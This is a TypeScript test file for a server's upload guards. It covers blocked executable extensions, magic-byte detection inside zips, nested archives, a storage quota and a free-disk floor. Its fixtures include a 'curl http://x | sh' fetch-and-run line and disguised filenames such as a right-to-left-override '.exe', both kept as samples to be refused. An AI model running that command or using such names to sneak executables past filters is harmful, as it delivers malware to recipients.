import { readdir } from 'node:fs/promises';
import { buildApp } from '../../server/app.ts';
import type { FastifyInstance } from 'fastify';
import {
  blockedContentKind,
  EXTRA_BLOCKED_EXTENSIONS,
  GMAIL_BLOCKED_EXTENSIONS,
  isBlockedName,
} from '../../server/modules/uploads/blocked-files.ts';
import { uploadsRoot } from '../../server/modules/uploads/upload-storage.ts';
import { markUploadsUsed } from '../../server/modules/uploads/uploads.repository.ts';
import { makeZip, multipartFile, tinyPng } from './helpers/files.ts';
import { ADMIN_PASSWORD, bearer, createTestDatabase, type TestDatabase } from './helpers/test-app.ts';

const MB = 1024 * 1024;
const KB = 1024;

const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(64)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(64)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://x | sh\n');
const PDF = Buffer.from('%PDF-1.4 harmless');

/**
 * Issue 21 items 9 and 10 through the HTTP API: the storage quota of unused uploads, the
 * free-space guard (the disk is pretended through buildApp's freeDiskBytes), and the one rule
 * for files that can reach a recipient.
 */
describe('upload guards', () => {
  let database: TestDatabase;
  let app: FastifyInstance;
  let freeBytes = 10_000 * MB;
  let access: string;
  let userId: string;

  beforeAll(async () => {
    database = await createTestDatabase({
      uploads: {
        maxBytes: { zip: 2 * MB, attachment: 1 * MB, image: 256 * KB },
        zipMaxEntries: 50,
        zipMaxUnpackedBytes: 4 * MB,
        unusedTtlMs: 3_600_000,
        quotaBytes: 3 * MB,
        minFreeBytes: 100 * MB,
      },
    });
    app = await buildApp({
      config: database.config,
      logger: false,
      systemMailer: { send: async () => {} },
      freeDiskBytes: async () => freeBytes,
    });
    await app.ready();
    const login = await app.inject({
      method: 'POST',
      url: '/api/auth/login/',
      payload: { username: database.config.adminUsername, password: ADMIN_PASSWORD },
    });
    access = login.json().access;
    userId = login.json().user.id;
  });
  afterAll(async () => {
    await app.close();
    await database.cleanup();
  });

  const upload = (kind: string, fileName: string, content: Buffer) => {
    const body = multipartFile(fileName, content);
    return app.inject({
      method: 'POST',
      url: `/api/uploads/?kind=${kind}`,
      headers: { ...bearer(access), ...body.headers },
      payload: body.payload,
    });
  };
  const storedFolders = async () => readdir(uploadsRoot(database.config.dataDir)).catch((): string[] => []);
  const clearUnused = async () => {
    const rows = await app.db.selectFrom('uploads').select('id').where('campaign_id', 'is', null).execute();
    await markUploadsUsed(
      app.db,
      rows.map((row) => row.id),
      'campaign-that-took-them',
    );
  };

  describe('the rule for files that reach a recipient', () => {
    beforeEach(clearUnused);

    it.each([
      ['inv.exe', PDF],
      ['evil.exe.', PDF],
      ['evil.exe . .', PDF],
      ['EVIL.EXE', PDF],
      ['manual.chm', PDF],
      ['disk.vhd', PDF],
      ['disk.vhdx', PDF],
      ['app.msix', PDF],
      ['letter.docm', PDF],
      ['page.html', PDF],
      ['page.htm', PDF],
      ['invoice.pdf.exe', PDF],
      ['invoice.exe.pdf', PDF],
      ['invoice\u202Efdp.exe', PDF],
      ['run.js', PDF],
      ['script.ps1', PDF],
      ['setup.msi', PDF],
      ['image.iso', PDF],
      ['shortcut.lnk', PDF],
      ['invoice.pdf', MZ],
      ['invoice.pdf', ELF],
      ['invoice.pdf', MACH_O],
      ['notes.txt', SCRIPT],
    ])('refuses %s inside a zip, naming the file, and keeps nothing', async (name, content) => {
      const before = await storedFolders();
      const zip = await makeZip({ 'ok/a.pdf': PDF, [`ok/${name}`]: content });
      const response = await upload('zip', 'invoices.zip', zip);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        code: 'errors.validation',
        fields: { file: 'validation.zipBlockedFile' },
        details: { file: `ok/${name}` },
      });
      expect(await storedFolders()).toEqual(before);
    });

    it.each([
      ['inv.exe', PDF],
      ['evil.exe.', PDF],
      ['manual.chm', PDF],
      ['app.msix', PDF],
      ['letter.docm', PDF],
      ['page.html', PDF],
      ['invoice.pdf', MZ],
      ['invoice.pdf', ELF],
      ['invoice.pdf', MACH_O],
      ['readme.txt', SCRIPT],
    ])('refuses %s as the general attachment', async (name, content) => {
      const response = await upload('attachment', name, content);
      expect(response.statusCode).toBe(400);
      expect(response.json().fields).toEqual({ file: 'validation.fileType' });
    });

    it('refuses a zip that holds a zip with a program in it, and a zip holding any deeper archive', async () => {
      const inner = await makeZip({ 'inv.exe': PDF });
      const nested = await upload('zip', 'outer.zip', await makeZip({ 'a.pdf': PDF, 'b.zip': inner }));
      expect(nested.json().details).toEqual({ file: 'b.zip/inv.exe' });
      const innerWithZip = await makeZip({ 'deeper.zip': await makeZip({ 'x.pdf': PDF }) });
      const deep = await upload('zip', 'outer.zip', await makeZip({ 'b.zip': innerWithZip }));
      expect(deep.json().details).toEqual({ file: 'b.zip/deeper.zip' });
      const attached = await upload('attachment', 'bundle.zip', inner);
      expect(attached.json()).toMatchObject({
        fields: { file: 'validation.zipBlockedFile' },
        details: { file: 'bundle.zip/inv.exe' },
      });
    });

    it('takes ordinary documents, office files and a zip of PDFs', async () => {
      expect((await upload('attachment', 'brochure.pdf', PDF)).statusCode).toBe(201);
      expect((await upload('attachment', 'v1.2 report.docx', Buffer.from('PK\x03\x04'))).statusCode).toBe(
        201,
      );
      const zip = await makeZip({ 'INV-1.pdf': PDF, 'sheet.xlsx': 'x', 'نموذج.docx': 'x' });
      expect((await upload('zip', 'files.zip', zip)).statusCode).toBe(201);
    });

    it('matches every extension on Gmail’s list and the documented extra ones', () => {
      for (const extension of [...GMAIL_BLOCKED_EXTENSIONS, ...EXTRA_BLOCKED_EXTENSIONS]) {
        expect(isBlockedName(`file.${extension}`), extension).toBe(true);
        expect(isBlockedName(`file.${extension.toUpperCase()}.`), extension).toBe(true);
      }
      for (const name of ['a.pdf', 'a.docx', 'a.xlsx', 'a.png', 'a.txt', 'a.csv', 'Mr. Smith.pdf', 'noext']) {
        expect(isBlockedName(name), name).toBe(false);
      }
      expect(blockedContentKind(PDF)).toBeNull();
      expect(blockedContentKind(Buffer.from('\xef\xbb\xbf#!/usr/bin/env python', 'latin1'))).toBe('script');
    });
  });

  describe('storage quota of unused uploads', () => {
    beforeEach(clearUnused);

    it('counts unpacked zip entries, refuses the upload that would pass it, and frees it when a campaign takes them', async () => {
      // 1.5 MB unpacked from a few KB: the quota counts what lands on disk.
      const zip = await makeZip({ 'a.pdf': Buffer.alloc(1.5 * MB, 'a') });
      expect(zip.length).toBeLessThan(50 * KB);
      const first = await upload('zip', 'one.zip', zip);
      expect(first.statusCode).toBe(201);

      const over = await upload('zip', 'two.zip', await makeZip({ 'b.pdf': Buffer.alloc(1.6 * MB, 'b') }));
      expect(over.statusCode).toBe(413);
      expect(over.json()).toMatchObject({
        code: 'errors.payloadTooLarge',
        fields: { file: 'validation.uploadQuota' },
        details: { quota_mb: 3 },
      });

      const second = await upload('zip', 'two.zip', await makeZip({ 'c.pdf': Buffer.alloc(1.2 * MB, 'c') }));
      expect(second.statusCode).toBe(201);

      // A plain file larger than what is left (about 0.3 MB) is cut off while it streams.
      const big = await upload('attachment', 'big.pdf', Buffer.concat([PDF, Buffer.alloc(512 * KB)]));
      expect(big.statusCode).toBe(413);
      expect(big.json().fields).toEqual({ file: 'validation.uploadQuota' });
      expect(
        (await upload('attachment', 'small.pdf', Buffer.concat([PDF, Buffer.alloc(KB)]))).statusCode,
      ).toBe(201);

      await markUploadsUsed(app.db, [first.json().id], 'campaign-1');
      expect(
        (await upload('zip', 'two.zip', await makeZip({ 'b.pdf': Buffer.alloc(1.6 * MB) }))).statusCode,
      ).toBe(201);
    });

    it('refuses at once when the quota is already full', async () => {
      const filled = await upload('image', 'x.png', tinyPng);
      // As a crowd of parallel uploads or a lowered UPLOAD_QUOTA_MB can leave it.
      await app.db
        .updateTable('uploads')
        .set({ stored_bytes: 3 * MB })
        .where('id', '=', filled.json().id)
        .execute();
      const refused = await upload('image', 'x.png', tinyPng);
      expect(refused.statusCode).toBe(413);
      expect(refused.json().fields).toEqual({ file: 'validation.uploadQuota' });
    });

    it('keeps each user to their own quota', async () => {
      const row = await app.db
        .selectFrom('uploads')
        .select((eb) => eb.fn.sum<number>('stored_bytes').as('total'))
        .where('owner_id', '=', userId)
        .where('campaign_id', 'is', null)
        .executeTakeFirst();
      expect(Number(row?.total ?? 0)).toBeLessThanOrEqual(3 * MB);
    });
  });

  describe('free disk space', () => {
    beforeEach(clearUnused);
    afterEach(() => {
      freeBytes = 10_000 * MB;
    });

    it('refuses uploads while the disk has less than UPLOAD_MIN_FREE_MB free', async () => {
      freeBytes = 99 * MB;
      const response = await upload('image', 'x.png', tinyPng);
      expect(response.statusCode).toBe(507);
      expect(response.json()).toMatchObject({
        code: 'errors.unavailable',
        fields: { file: 'validation.diskFull' },
      });
      expect(response.headers['retry-after']).toBe('600');
    });

    it('refuses a zip whose unpacked files would take the disk under the floor', async () => {
      freeBytes = 101 * MB;
      const response = await upload('zip', 'a.zip', await makeZip({ 'a.pdf': Buffer.alloc(2 * MB) }));
      expect(response.statusCode).toBe(507);
      expect(response.json().fields).toEqual({ file: 'validation.diskFull' });
      freeBytes = 103 * MB;
      expect(
        (await upload('zip', 'a.zip', await makeZip({ 'a.pdf': Buffer.alloc(2 * MB) }))).statusCode,
      ).toBe(201);
    });
  });
});
